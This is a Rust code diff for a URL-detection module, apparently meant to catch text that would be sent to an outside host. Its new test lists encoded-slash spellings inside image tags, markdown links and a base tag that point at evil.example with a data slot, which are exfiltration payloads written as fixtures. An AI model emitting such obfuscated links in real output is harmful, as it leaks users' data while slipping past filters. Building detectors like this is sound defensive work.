@@ -64,6 +64,11 @@ impl Links {
         self.written.is_inside() || self.undone.as_ref().is_some_and(|undone| undone.now().is_inside())
     }
 
+    /// Whether what follows must be read character by character.
+    pub(super) fn is_watchful(&self) -> bool {
+        self.written.is_watchful() || self.undone.as_ref().is_some_and(|undone| undone.now().is_watchful())
+    }
+
     /// Host and port, where the text stands in a URL that surely leads there, however it is read.
     pub(super) fn authority(&self) -> Option<&str> {
         let written = self.written.authority()?;
@@ -90,7 +95,7 @@ impl Links {
         self.written.pass(unit);
         let Some(undone) = &mut self.undone else { return };
         undone.pass(unit);
-        let is_over = matches!(undone.pending, Pending::Nothing) && !undone.link.is_inside();
+        let is_over = matches!(undone.pending, Pending::Nothing) && !undone.link.is_watchful();
         if unit.char == '\n' && is_over && !self.written.is_inside() {
             self.undone = None;
         }
@@ -227,6 +232,32 @@ mod tests {
         }
         let in_json = r#"{"html":"<img src=\"https&colon;&sol;&sol;evil.example/?q=¤\">"}"#;
         assert!(inside(Landing::JsonInString, in_json));
+    }
+
+    #[test]
+    fn slashes_that_are_spelt_as_references_begin_a_host_in_an_attribute() {
+        let spellings = [
+            r"&bsol;&bsol;",
+            r"&#92;&#x5c;",
+            r"\&bsol;",
+            r"&bsol;\",
+            r"\&sol;",
+            r"&sol;\",
+            r"/&bsol;",
+            r"&bsol;/",
+            r"\&#47;",
+            r"&#92&#47",
+        ];
+        for spelling in spellings {
+            for (before, behind) in [("<img src=\"", " ¤\">"), ("<img src=", "¤>"), ("![x](", "¤)"), ("[r]: ", "¤")]
+            {
+                let text = format!("{before}{spelling}evil.example/?q={behind}");
+                assert!(inside(Landing::Text, &text), "{text}");
+            }
+        }
+        let base = "<base href=\"&#47;&#47;evil.example\">\n\n<img src=\"?q=¤\">";
+        assert!(inside(Landing::Text, base));
+        assert!(!inside(Landing::Text, r"the share \\server&amp;co\¤"));
     }
 
     #[test]
